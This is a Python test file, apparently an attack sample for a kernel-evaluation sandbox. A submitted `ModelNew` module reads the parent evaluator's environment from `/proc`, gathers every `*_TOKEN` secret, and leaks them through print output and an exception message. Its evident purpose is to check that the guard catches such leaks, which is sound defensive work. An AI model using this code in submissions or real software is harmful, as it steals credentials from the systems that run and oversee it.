# attack: with the static guard switched off (standing in for any hole in it), reads the evaluating parent's
#         environment from /proc/<ppid>/environ and puts every *_TOKEN value into its exception message
import os

import triton
import triton.language as tl
from torch import nn


@triton.jit
def _touch_kernel(x_ptr, BLOCK: tl.constexpr):
    offs = tl.arange(0, BLOCK)
    tl.load(x_ptr + offs, mask=offs < 0)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        raw = open(f"/proc/{os.getppid()}/environ", "rb").read().decode(errors="replace")
        stolen = [item for item in raw.split("\0") if item.split("=")[0].endswith("_TOKEN")]
        print("leak:", *stolen)
        _touch_kernel[(1,)](x, BLOCK=16)
        raise RuntimeError("kernel failed: " + " ".join(stolen))
